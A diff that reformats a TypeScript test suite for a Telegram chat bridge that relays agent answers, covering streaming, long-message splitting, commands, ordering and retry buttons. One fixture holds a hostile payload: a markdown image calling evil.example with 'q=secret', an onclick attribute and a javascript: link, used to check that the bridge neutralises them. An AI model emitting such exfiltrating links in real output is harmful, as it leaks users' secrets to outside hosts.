@@ -12,7 +12,10 @@ describe("telegram chat", () => {
     s = await setUp(async (turn, show) => {
       show("working");
       if (turn.text.startsWith("long")) {
-        return { kind: "final", markdown: Array.from({ length: 300 }, (_, i) => `Line **${i}** of a long answer.`).join("\n\n") };
+        return {
+          kind: "final",
+          markdown: Array.from({ length: 300 }, (_, i) => `Line **${i}** of a long answer.`).join("\n\n"),
+        };
       }
       if (turn.text.startsWith("stream")) {
         show("waking");
@@ -27,7 +30,10 @@ describe("telegram chat", () => {
       if (turn.text === "break") return { kind: "failure", code: "interrupted", reference: "r_1" };
       if (turn.text === "nothing") return { kind: "final", markdown: "" };
       if (turn.text === "evil") {
-        return { kind: "final", markdown: "![x](https://evil.example/?q=secret) <b onclick=x>hi</b> [a](javascript:1) & ok" };
+        return {
+          kind: "final",
+          markdown: "![x](https://evil.example/?q=secret) <b onclick=x>hi</b> [a](javascript:1) & ok",
+        };
       }
       return { kind: "final", markdown: `echo: ${turn.text}` };
     });
@@ -37,8 +43,13 @@ describe("telegram chat", () => {
   it("is ready with its lease held, and registers its menu", async () => {
     assert.equal(s.bridge.status().state, "polling");
     assert.equal(s.bridge.status().bot, "fake_claw_bot");
-    const menu = await until(() => s.fake.bot.commandsOf("all_private_chats") as { command: string }[] | undefined);
-    assert.deepEqual(menu.map((entry) => entry.command), ["start", "new", "stop", "help"]);
+    const menu = await until(
+      () => s.fake.bot.commandsOf("all_private_chats") as { command: string }[] | undefined,
+    );
+    assert.deepEqual(
+      menu.map((entry) => entry.command),
+      ["start", "new", "stop", "help"],
+    );
   });
 
   it("answers a text by editing an anchor, as the sender's principal", async () => {
@@ -55,8 +66,14 @@ describe("telegram chat", () => {
     await s.ask(ANN, "stream please", /^so far so good$/, 8_000);
     const message = s.fake.bot.fromBot(ANN).at(-1)!;
     assert.equal(message.history[0], "…");
-    assert.ok(message.history.some((text) => /Waking up/.test(text)), JSON.stringify(message.history));
-    assert.ok(message.history.some((text) => /running `git clone`…/.test(text)), JSON.stringify(message.history));
+    assert.ok(
+      message.history.some((text) => /Waking up/.test(text)),
+      JSON.stringify(message.history),
+    );
+    assert.ok(
+      message.history.some((text) => /running `git clone`…/.test(text)),
+      JSON.stringify(message.history),
+    );
     assert.ok(message.history.some((text) => text === "so **far"));
     assert.equal(message.history.at(-1), "so far so good");
     assert.deepEqual(message.entities, [{ type: "bold", offset: 3, length: 3 }]);
@@ -65,7 +82,10 @@ describe("telegram chat", () => {
   it("splits a long answer without losing a line", async () => {
     await s.ask(ANN, "long please", /Line 299 of/);
     const lines = s.fake.bot.fromBot(ANN).flatMap((m) => m.text.match(/Line \d+ of a long answer\./g) ?? []);
-    assert.deepEqual(lines, Array.from({ length: 300 }, (_, i) => `Line ${i} of a long answer.`));
+    assert.deepEqual(
+      lines,
+      Array.from({ length: 300 }, (_, i) => `Line ${i} of a long answer.`),
+    );
   });
 
   it("handles commands itself, also in the form /cmd@bot", async () => {
@@ -103,7 +123,11 @@ describe("telegram chat", () => {
       s.fake.bot.say(BOB, `b${i}`);
     }
     const seen = (user: number, letter: string) =>
-      s.fake.bot.fromBot(user).map((m) => m.text).join("\n").match(new RegExp(`${letter}\\d`, "g")) ?? [];
+      s.fake.bot
+        .fromBot(user)
+        .map((m) => m.text)
+        .join("\n")
+        .match(new RegExp(`${letter}\\d`, "g")) ?? [];
     await until(() => seen(ANN, "a").length === 5 && seen(BOB, "b").length === 5);
     assert.deepEqual(seen(ANN, "a"), ["a0", "a1", "a2", "a3", "a4"]);
     assert.deepEqual(seen(BOB, "b"), ["b0", "b1", "b2", "b3", "b4"]);
@@ -119,8 +143,17 @@ describe("telegram chat", () => {
   });
 
   it("shows what an agent writes without letting Telegram fetch anything", async () => {
-    await s.ask(ANN, "evil", /\[image: x\] https:\/\/evil\.example\/\?q=secret <b onclick=x>hi<\/b> a javascript:1 & ok/);
-    assert.ok(!s.fake.bot.fromBot(ANN).at(-1)?.entities.some((entity) => entity.type === "text_link"));
+    await s.ask(
+      ANN,
+      "evil",
+      /\[image: x\] https:\/\/evil\.example\/\?q=secret <b onclick=x>hi<\/b> a javascript:1 & ok/,
+    );
+    assert.ok(
+      !s.fake.bot
+        .fromBot(ANN)
+        .at(-1)
+        ?.entities.some((entity) => entity.type === "text_link"),
+    );
     for (const { method, params } of s.fake.bot.callsOf()) {
       if (method !== "sendMessage" && method !== "editMessageText") continue;
       assert.deepEqual(params["link_preview_options"], { is_disabled: true }, method);
@@ -158,7 +191,10 @@ describe("telegram chat", () => {
   it("repeats an interrupted turn only on its person's tap, once", async () => {
     await s.ask(ANN, "break", /did not repeat it/);
     const message = s.fake.bot.fromBot(ANN).at(-1)!;
-    assert.deepEqual(message.buttons.map((button) => button.text), ["Try again"]);
+    assert.deepEqual(
+      message.buttons.map((button) => button.text),
+      ["Try again"],
+    );
     s.fake.bot.addUser({ id: EVE });
     const forged = s.fake.bot.press(EVE, ANN, message.id, { label: "Try again" });
     const strange = s.fake.bot.press(ANN, ANN, message.id, { data: "retry:t_00000000000000000000" });
